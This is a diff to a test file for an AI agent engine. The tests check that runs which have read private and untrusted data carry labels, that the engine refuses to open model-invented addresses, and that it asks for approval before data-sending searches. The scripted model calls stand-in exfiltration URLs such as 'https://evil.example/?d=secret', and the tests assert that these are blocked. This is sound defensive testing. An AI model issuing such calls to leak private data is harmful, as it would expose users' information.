@@ -1,9 +1,11 @@
+import { randomUUID } from 'node:crypto';
 import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
 import { z } from 'zod';
 import type { RunLabel } from '@/lib/core/run-labels';
 import { defineTool, type Tool } from '@/lib/core/tool';
 import type { Database } from '@/lib/stores/open-database';
 import { createStores } from '@/lib/stores/stores';
+import { runHistory } from '@/lib/workbench/run-history';
 import { emptyDatabase } from '../fakes/data-folder';
 import { type Answer, answer, brief, clearTables, dataOf, layTable, newRun, readAll } from '../fakes/play';
 import { type Asked, type Reply, scriptedModel } from '../fakes/scripted-model';
@@ -40,8 +42,8 @@ async function table(play: (asked: Asked) => Reply, changes: Parameters<typeof l
       },
     }),
     defineTool({
-      ...{ name: 'search', description: 'Searches', access: 'read', where: 'server', labels: ['untrusted'] },
-      input: z.strictObject({}),
+      ...{ name: 'search', description: 'Searches', access: 'read', where: 'server', labels: ['untrusted'], sends: true },
+      input: z.strictObject({ query: z.string().optional() }),
       urls: () => ['https://found.example/a?b=c'],
       run: async () => ({ results: 1 }),
     }),
@@ -87,6 +89,26 @@ describe('the labels of a run', () => {
   });
 });
 
+test('a run has the labels of every run whose answer it is told, also of one beside the last', async () => {
+  const stores = createStores(database.db);
+  const choose = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
+  const t = await table(
+    (asked) => {
+      if (asked.everything.includes('And now?')) return steps(open('https://evil.example/?d=1'))(asked);
+      return steps(asked.everything.includes('Read the CRM') ? call('readBoth') : choose)(asked);
+    },
+    { history: (run) => runHistory(stores, run) },
+  );
+  const conversationId = randomUUID();
+  const waiting = await t.engine.start({ ...solo('Wait for me'), conversationId });
+  await readAll(t, await t.engine.start({ ...solo('Read the CRM'), conversationId }));
+  await answer(t, waiting, 'ada.q', { kind: 'question', answer: 'Yes' });
+  await readAll(t, waiting);
+  const last = await t.engine.start({ ...solo('And now?'), conversationId });
+  expect(dataOf(await readAll(t, last), 'run_label')).toEqual([{ label: 'private' }, { label: 'untrusted' }]);
+  expect(t.opened).toEqual([]);
+});
+
 describe('a run that has read what is private and what is untrusted', () => {
   test('opens no address that a model made up, and says why', async () => {
     const t = await table(steps(call('readBoth'), open('https://evil.example/?d=secret')));
@@ -124,7 +146,7 @@ describe('a run that has read what is private and what is untrusted', () => {
       'not an address',
     ];
     for (const address of [...right, ...wrong]) {
-      const t = await table(steps(call('readBoth'), call('search'), open(address)), {
+      const t = await table(steps(call('search'), call('readBoth'), open(address)), {
         allowedHosts: ['*.allowed.example', 'ok.example'],
       });
       const run = await t.engine.start(solo('Read https://typed.example/page.'));
@@ -177,6 +199,21 @@ describe('a run that has read what is private and what is untrusted', () => {
     const events = await readAll(second, run);
     expect(second.opened).toEqual(['https://typed.example/']);
     expect(dataOf(events, 'run_label')).toHaveLength(2);
+  });
+
+  test('asks for every search, and sends the words that the person has seen', async () => {
+    const search = (id: string, query: string) => ({ name: 'search', id, args: { query } });
+    const t = await table(steps(search('a', 'free'), call('readBoth'), search('b', 'secret'), search('c', 'secret')));
+    const run = await t.engine.start(solo());
+    await answer(t, run, 'ada.b', { kind: 'approval', decision: 'approve', always: true });
+    await answer(t, run, 'ada.c', { kind: 'approval', decision: 'deny' });
+    const events = await readAll(t, run);
+    expect(dataOf(events, 'signal_request')).toMatchObject([
+      { key: 'ada.b', kind: 'approval', sends: true, args: { query: 'secret' } },
+      { key: 'ada.c', kind: 'approval', sends: true },
+    ]);
+    expect(dataOf(events, 'agent_tool_result').map(({ error }) => error === undefined)).toEqual([true, true, true, false]);
+    expect(dataOf(events, 'run_end')).toMatchObject([{ status: 'completed' }]);
   });
 
   test('asks for every write, whatever was said yes to for all before', async () => {
